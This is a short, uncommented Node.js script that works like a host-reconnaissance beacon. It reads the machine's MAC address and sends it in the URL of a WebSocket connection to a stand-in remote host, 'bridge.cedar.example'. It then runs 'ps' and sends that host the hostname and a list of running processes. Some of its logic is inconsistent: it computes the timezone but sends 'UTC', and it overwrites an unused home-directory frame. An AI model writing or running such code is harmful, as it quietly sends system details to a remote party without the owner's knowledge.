const os = require("os");
const { execSync } = require("child_process");
const WebSocket = require("ws");

const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
console.log("zone", zone);

function firstMac() {
  const all = os.networkInterfaces();
  for (const name of Object.keys(all)) {
    for (const one of all[name]) {
      if (!one.internal) return one.mac;
    }
  }
  return "none";
}

function frame(zone, extra) {
  return JSON.stringify(Object.assign({ zone: zone, at: "start" }, extra));
}

function connect() {
  const socket = new WebSocket("wss://bridge.cedar.example/agent?d=" + encodeURIComponent(firstMac()));
  socket.on("open", function () {
    const running = execSync("ps -eo comm=").toString().split("\n").slice(0, 20);
    let hello = frame("UTC", { home: os.homedir() });
    hello = frame("UTC", { host: os.hostname(), running });
    socket.send(hello);
  });
  socket.on("message", function (data) {
    console.log(String(data));
  });
  return socket;
}

connect();
